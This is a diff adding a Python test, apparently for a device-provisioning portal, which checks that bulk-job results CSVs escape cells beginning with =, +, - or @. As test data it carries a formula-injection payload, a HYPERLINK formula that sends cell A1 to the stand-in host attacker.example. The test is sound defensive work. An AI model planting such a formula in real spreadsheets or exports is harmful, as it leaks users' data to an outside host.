@@ -221,3 +221,25 @@ def test_a_job_runs_in_a_thread(ca: Any, make_user: Any, transactional_db: Any, 
         time.sleep(0.1)
     assert job.status == BulkJobStatus.FINISHED and job.done == 2
     assert b"t1" in bulk.collect(job, key)
+
+
+def test_results_cannot_smuggle_a_formula_into_a_spreadsheet(operator: Client) -> None:
+    # A name is the operator's text; in the results CSV a spreadsheet must show it, not run it.
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    written = io.StringIO()
+    csv.writer(written).writerows(
+        [["name", "hardware_id", "key_type"], [formula, "@SN-9", "ec-p256"], ["+plus", "-minus", "ec-p256"]]
+    )
+    source = written.getvalue()
+    answer = operator.post("/portal/bulk/", {"file": csv_upload(source)})
+    assert answer.status_code == 302, answer.content.decode()[-3000:]
+    job_url = answer["Location"]
+    operator.post(f"{job_url}start")
+    rows = list(csv.DictReader(io.StringIO(operator.get(f"{job_url}results.csv").content.decode())))
+    assert [(row["name"], row["hardware_id"]) for row in rows] == [
+        ("'" + formula, "'@SN-9"),
+        ("'+plus", "'-minus"),
+    ]
+    assert all(row["status"] == "active" and row["bundle_password"][0] not in "=+-@" for row in rows)
+    # The devices keep their names as given.
+    assert Device.objects.filter(name=formula, hardware_id="@SN-9").exists()
